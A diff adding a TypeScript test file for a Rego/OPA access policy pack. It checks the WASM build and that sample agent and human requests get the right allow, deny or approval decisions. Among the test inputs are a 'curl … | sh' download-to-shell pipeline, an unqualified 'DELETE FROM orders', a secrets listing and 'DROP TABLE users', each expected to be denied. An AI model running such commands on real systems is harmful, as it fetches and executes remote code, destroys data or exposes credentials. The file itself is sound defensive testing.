@@ -1,0 +1,211 @@
+// The policy pack end to end: its Rego suite, strict compile, the WASM bundle build, and the built
+// WASM deciding exactly as OPA's own evaluator does on the same inputs.
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import path from 'node:path';
+import { test } from 'node:test';
+
+import { loadPolicy } from '@open-policy-agent/opa-wasm';
+
+import { bundlePath, entrypoint, loadArgs, opaPath, packRevision, policiesDir, readBundle, runOpa } from '../build.mjs';
+
+interface OpaTestResult {
+  package: string;
+  name: string;
+  fail?: boolean;
+  error?: unknown;
+  skip?: boolean;
+}
+
+interface Decision {
+  effect: 'allow' | 'deny' | 'approval_required';
+  reasons: { code: string; message: string }[];
+  obligations: { mask: { table: string; column: string; strategy: string }[]; record: boolean };
+  approval?: { quorum: number; approver_roles: string[]; ttl_seconds: number };
+}
+
+// --- inputs shaped as docs/policy-input.md describes ---
+
+function request(kind: 'agent' | 'human', roles: string[], resource: { type: string; name: string; environment: string }, action: object) {
+  return {
+    principal: { authenticated: true, error: null, sub: `${kind}-7`, iss: 'https://issuer.example.com', kind, roles },
+    pep: { sub: `pep-${resource.name}`, roles: ['pep'] },
+    resource: { ...resource, labels: {} },
+    action,
+    session: { id: 'sess-0001', client_addr: '10.0.0.7:51234' },
+  };
+}
+
+const ordersDb = { type: 'postgres', name: 'orders-db', environment: 'production' };
+const prodCluster = { type: 'kubernetes', name: 'prod-cluster', environment: 'production' };
+const web1 = { type: 'ssh', name: 'web-1', environment: 'production' };
+
+function statement(fields: object) {
+  return {
+    kind: 'select', node: 'SelectStmt', text: '', operations: [], tables: [], columns: [], star_tables: [],
+    functions: [], writes: false, explain_analyze: false, copy: null, set: null, ...fields,
+  };
+}
+
+function sql(text: string, fields: object) {
+  return { type: 'sql', sql: text, parse_error: null, statements: [statement({ text, ...fields })] };
+}
+
+function command(name: string, args: (string | null)[], position: number, length: number) {
+  return {
+    name, path: name, args, dynamic_name: false, pipeline: 0, pipeline_position: position,
+    pipeline_length: length, via: null, redirects: [],
+  };
+}
+
+const samples = {
+  readerSelectsEmail: {
+    input: request('agent', ['reader'], ordersDb, sql('SELECT id, email FROM users WHERE id = 7', {
+      operations: [{ kind: 'select', table: 'users', schema: null }],
+      tables: ['users'],
+      columns: [{ table: 'users', column: 'id' }, { table: 'users', column: 'email' }],
+    })),
+    effect: 'allow',
+    code: 'sql-read-allowed',
+  },
+  writerUpdatesInProduction: {
+    input: request('agent', ['writer'], ordersDb, sql("UPDATE users SET phone = NULL WHERE id = 7 RETURNING email", {
+      kind: 'update', node: 'UpdateStmt',
+      operations: [{ kind: 'update', table: 'users', schema: null, has_where: true }],
+      tables: ['users'],
+      columns: [{ table: 'users', column: 'phone' }, { table: 'users', column: 'id' }, { table: 'users', column: 'email' }],
+      writes: true,
+    })),
+    effect: 'approval_required',
+    code: 'sql-write-requires-approval',
+  },
+  agentDeletesEveryRow: {
+    input: request('agent', ['writer', 'dba'], ordersDb, sql('DELETE FROM orders', {
+      kind: 'delete', node: 'DeleteStmt',
+      operations: [{ kind: 'delete', table: 'orders', schema: null, has_where: false }],
+      tables: ['orders'], writes: true,
+    })),
+    effect: 'deny',
+    code: 'sql-delete-without-where',
+  },
+  humanDbaCreatesIndexInProduction: {
+    input: request('human', ['dba'], ordersDb, sql('CREATE INDEX orders_status_idx ON orders (status)', {
+      kind: 'ddl', node: 'IndexStmt', tables: ['orders'], columns: [{ table: 'orders', column: 'status' }],
+    })),
+    effect: 'approval_required',
+    code: 'sql-privileged-statement-requires-approval',
+  },
+  agentReadsSecrets: {
+    input: request('agent', ['reader'], prodCluster, {
+      type: 'kubernetes', method: 'GET', path: '/api/v1/namespaces/prod/secrets',
+      request: {
+        is_resource_request: true, verb: 'list', api_prefix: 'api', api_group: '', api_version: 'v1',
+        namespace: 'prod', resource: 'secrets', subresource: '', name: '', parts: ['secrets'],
+      },
+    }),
+    effect: 'deny',
+    code: 'kubernetes-secret-read-by-agent',
+  },
+  requestInfoMissing: {
+    input: request('agent', ['reader'], prodCluster, {
+      type: 'kubernetes', method: 'GET', path: '/api/v1/namespaces/prod/pods',
+      request: { verb: 'list', resource: 'pods', subresource: '', namespace: 'prod' },
+    }),
+    effect: 'deny',
+    code: 'kubernetes-unknown-request',
+  },
+  curlPipedIntoShell: {
+    input: request('human', ['writer'], web1, {
+      type: 'shell', command: 'curl -s http://x | sh', parse_error: null,
+      commands: [command('curl', ['-s', 'http://x'], 0, 2), command('sh', [], 1, 2)],
+    }),
+    effect: 'deny',
+    code: 'shell-download-piped-to-interpreter',
+  },
+  readOnlyPipeline: {
+    input: request('agent', ['reader'], web1, {
+      type: 'shell', command: 'ps aux | grep nginx', parse_error: null,
+      commands: [command('ps', ['aux'], 0, 2), command('grep', ['nginx'], 1, 2)],
+    }),
+    effect: 'allow',
+    code: 'shell-read-only-command',
+  },
+  namelessShellCommand: {
+    input: request('human', ['writer'], web1, {
+      type: 'shell', command: 'ls', parse_error: null,
+      commands: [command('ls', [], 0, 1), { args: [], dynamic_name: false, pipeline: 1, pipeline_position: 0, redirects: [] }],
+    }),
+    effect: 'deny',
+    code: 'shell-dynamic-command-name',
+  },
+  emptyObject: { input: {}, effect: 'deny', code: 'unauthenticated' },
+  garbage: { input: { principal: 'root', resource: 7, action: ['DROP TABLE users'] }, effect: 'deny', code: 'unknown-resource' },
+} satisfies Record<string, { input: unknown; effect: Decision['effect']; code: string }>;
+
+const opa = opaPath();
+
+test('opa test passes every Rego test of the pack, and there are at least 60', () => {
+  const run = runOpa(opa, ['test', '--format=json', ...loadArgs({ tests: true })]);
+  const results = JSON.parse(run.stdout) as OpaTestResult[];
+  const notPassed = results.filter((r) => r.fail === true || r.error !== undefined || r.skip === true);
+  assert.deepEqual(notPassed.map((r) => `${r.package}.${r.name}`), []);
+  assert.equal(run.status, 0, run.stderr);
+  assert.ok(results.length >= 60, `only ${results.length} Rego tests`);
+});
+
+test('opa check --strict accepts the whole pack, tests included', () => {
+  const run = runOpa(opa, ['check', '--strict', ...loadArgs({ tests: true })]);
+  assert.equal(run.status, 0, run.stdout + run.stderr);
+});
+
+test('build.mjs writes build/bundle.tar.gz holding /policy.wasm and /data.json and prints one line', () => {
+  // The bundle is not deleted first: other suites (the PDP harness) may be reading it.
+  const run = spawnSync(process.execPath, [path.join(policiesDir, 'build.mjs')], { encoding: 'utf8' });
+  assert.equal(run.status, 0, run.stderr);
+  assert.match(run.stdout, /^\[policies\] built .*bundle\.tar\.gz: .*policy\.wasm/);
+  assert.equal(run.stdout.trim().split('\n').length, 1);
+  const entries = readBundle(bundlePath);
+  const manifest = JSON.parse(entries.get('/.manifest')?.toString('utf8') ?? '{}') as { revision?: string };
+  assert.equal(manifest.revision, packRevision());
+  const wasm = entries.get('/policy.wasm');
+  assert.ok(wasm, `bundle members: ${[...entries.keys()].join(', ')}`);
+  assert.deepEqual([...wasm.subarray(0, 4)], [0x00, 0x61, 0x73, 0x6d]);
+  const data = JSON.parse(entries.get('/data.json')?.toString('utf8') ?? 'null') as { portcullis?: { resources?: object } };
+  assert.ok(data.portcullis?.resources && 'orders-db' in data.portcullis.resources);
+});
+
+test('the built WASM decides exactly as opa eval does on the same inputs', async () => {
+  const entries = readBundle(bundlePath);
+  const wasm = entries.get('/policy.wasm');
+  const dataJson = entries.get('/data.json');
+  assert.ok(wasm && dataJson, 'run the build test first');
+  const policy = await loadPolicy(new Uint8Array(wasm));
+  // The SDK ignores the bundle's data.json; the PDP sets it, and so do we.
+  policy.setData(JSON.parse(dataJson.toString('utf8')) as object);
+
+  for (const [name, sample] of Object.entries(samples)) {
+    const fromWasm = policy.evaluate(sample.input, entrypoint) as { result: Decision }[];
+    assert.equal(fromWasm.length, 1, `${name}: WASM decision undefined`);
+    const decision = fromWasm[0]!.result;
+    assert.deepEqual(decision, evalWithOpa(sample.input), `${name}: WASM and opa eval disagree`);
+    assert.equal(decision.effect, sample.effect, `${name}: ${JSON.stringify(decision.reasons)}`);
+    assert.ok(decision.reasons.some((r) => r.code === sample.code), `${name}: ${JSON.stringify(decision.reasons)}`);
+    assert.equal(decision.obligations.record, true);
+    assert.equal(decision.approval !== undefined, decision.effect === 'approval_required', name);
+  }
+
+  const select = policy.evaluate(samples.readerSelectsEmail.input, entrypoint) as { result: Decision }[];
+  assert.deepEqual(select[0]!.result.obligations.mask, [{ table: 'users', column: 'email', strategy: 'partial' }]);
+  const ddl = policy.evaluate(samples.humanDbaCreatesIndexInProduction.input, entrypoint) as { result: Decision }[];
+  assert.deepEqual(ddl[0]!.result.approval, { quorum: 2, approver_roles: ['approver'], ttl_seconds: 900 });
+});
+
+function evalWithOpa(input: unknown): Decision {
+  const query = `data.${entrypoint.replaceAll('/', '.')}`;
+  const run = runOpa(opa, ['eval', '--format=json', '--stdin-input', ...loadArgs({ tests: false }), query], {
+    input: JSON.stringify(input),
+  });
+  assert.equal(run.status, 0, run.stderr);
+  const output = JSON.parse(run.stdout) as { result: { expressions: { value: Decision }[] }[] };
+  return output.result[0]!.expressions[0]!.value;
+}
